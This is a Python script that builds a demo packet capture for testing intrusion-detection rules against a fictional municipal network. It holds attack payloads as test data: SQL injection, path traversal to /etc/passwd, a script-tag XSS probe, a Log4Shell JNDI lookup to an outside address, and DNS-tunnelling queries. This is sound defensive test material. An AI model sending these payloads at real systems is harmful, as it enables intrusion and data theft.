#!/usr/bin/env python3
"""make-demo-pcap.py — write samples/demo.pcap, the capture the quickstart
replays through the sensor, with a positive and a negative case for every
rule of rules/sets/packet/gl-packet.rules.  Addresses follow the example
policy (policies/example/policy.conf): 架空中央市's internet tier is
10.11.32.0/20, the SC DMZ 203.0.113.0/24.

usage: make-demo-pcap.py OUT.pcap
The expected sids, one per line with their count, go to OUT.pcap.expected.
"""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "tests", "pcapgen"))
import pcapgen as g  # noqa: E402

CLIENT = "10.11.32.50"   # 架空中央市, I tier
WEB = "203.0.113.80"     # SC WAF / hosted site
OUT = "198.51.100.7"     # somewhere on the internet


def http(pc, port, cli, srv, request):
    c = g.Conv(pc, cli=(cli, port), srv=(srv, 80))
    c.handshake()
    c.data(True, request)
    c.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    c.close()


def download(pc, port, cli, srv, path, ctype):
    c = g.Conv(pc, cli=(cli, port), srv=(srv, 80))
    c.handshake()
    c.data(True, b"GET " + path + b" HTTP/1.1\r\nHost: dl.example.net\r\n"
           b"\r\n")
    c.data(False, b"HTTP/1.1 200 OK\r\nContent-Type: " + ctype +
           b"\r\nContent-Length: 4\r\n\r\nMZ\x90\x00")
    c.close()


def tcp_payload(pc, port, cli, srv, dport, payloads):
    c = g.Conv(pc, cli=(cli, port), srv=(srv, dport))
    c.handshake()
    for p in payloads:
        c.data(True, p)
        c.data(False, b"ok\r\n")
    c.close()


def tls(pc, port, sni):
    c = g.Conv(pc, cli=(CLIENT, port), srv=(OUT, 443))
    c.handshake()
    c.data(True, g.tls_records(g.client_hello(sni)))
    c.close()


def dns(pc, port, name):
    q = g.udp(port, 53, g.dns_query(name))
    pc.add(g.wrap(g.LINK_ETH, g.ipv4(CLIENT, "10.200.1.53", 17, q), 0x0800))


def main(out):
    pc = g.Pcap()
    exp = {}

    def want(sid):
        exp[sid] = exp.get(sid, 0) + 1
    # GL-ID-02
    http(pc, 41001, CLIENT, OUT, b"GET /admin HTTP/1.1\r\nHost: intra\r\n"
         b"Authorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n")
    want(9100001)
    http(pc, 41002, CLIENT, OUT, b"GET / HTTP/1.1\r\nHost: intra\r\n"
         b"Authorization: Bearer abc\r\n\r\n")
    tcp_payload(pc, 41003, CLIENT, OUT, 21, [b"USER tanaka\r\n",
                                            b"PASS hunter2\r\n"])
    want(9100002)
    tcp_payload(pc, 41004, CLIENT, OUT, 21, [b"USER anonymous\r\n"])
    tcp_payload(pc, 41005, CLIENT, OUT, 23, [b"login\r\n"])
    want(9100003)
    # GL-INT-03 / GL-INT-01 against the hosted site
    http(pc, 42001, OUT, WEB, b"GET /news.php?id=1%20UNION%20SELECT%20pw"
         b"%20FROM%20users HTTP/1.1\r\nHost: www.city.example.lg.jp\r\n\r\n")
    want(9100010)
    http(pc, 42002, OUT, WEB, b"GET /news.php?q=trade+union+news HTTP/1.1"
         b"\r\nHost: www.city.example.lg.jp\r\n\r\n")
    http(pc, 42003, OUT, WEB, b"GET /dl?f=../../../../etc/passwd HTTP/1.1"
         b"\r\nHost: www.city.example.lg.jp\r\n\r\n")
    want(9100011)
    http(pc, 42004, OUT, WEB, b"GET /search?q=scripture+reading HTTP/1.1\r\n"
         b"Host: www.city.example.lg.jp\r\n\r\n")
    http(pc, 42005, OUT, WEB, b"GET /search?q=<script>alert(1)</script> "
         b"HTTP/1.1\r\nHost: www.city.example.lg.jp\r\n\r\n")
    want(9100012)
    http(pc, 42006, OUT, WEB, b"GET / HTTP/1.1\r\nHost: www.city.example."
         b"lg.jp\r\nUser-Agent: ${jndi:ldap://198.51.100.9/a}\r\n\r\n")
    want(9100013)
    # GL-WEB-03
    tls(pc, 43001, "router9.teamviewer.com")
    want(9100020)
    tls(pc, 43002, "relay-1.net.anydesk.com")
    want(9100021)
    tls(pc, 43003, "www.example.com")
    dns(pc, 44001, "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion")
    want(9100022)
    want(9100030)
    # GL-DNS-01
    dns(pc, 44002, "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHR1bm5lbGxlZCBwYXlsb2FkIQ."
        "t.example.net")
    want(9100030)
    dns(pc, 44003, "www.city.example.lg.jp")
    # GL-MAL-05: an executable to a 団体 host; a PDF to it, and an
    # executable from the hosted site to the internet, are not
    download(pc, 45001, CLIENT, OUT, b"/update/setup.exe",
             b"application/x-msdownload")
    want(9100040)
    download(pc, 45002, CLIENT, OUT, b"/docs/guide.pdf", b"application/pdf")
    download(pc, 45003, OUT, WEB, b"/files/tool.exe",
             b"application/x-msdownload")
    pc.write(out)
    with open(out + ".expected", "w") as f:
        for sid in sorted(exp):
            f.write("%d\t%d\n" % (sid, exp[sid]))


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else
         os.path.join(HERE, "demo.pcap"))
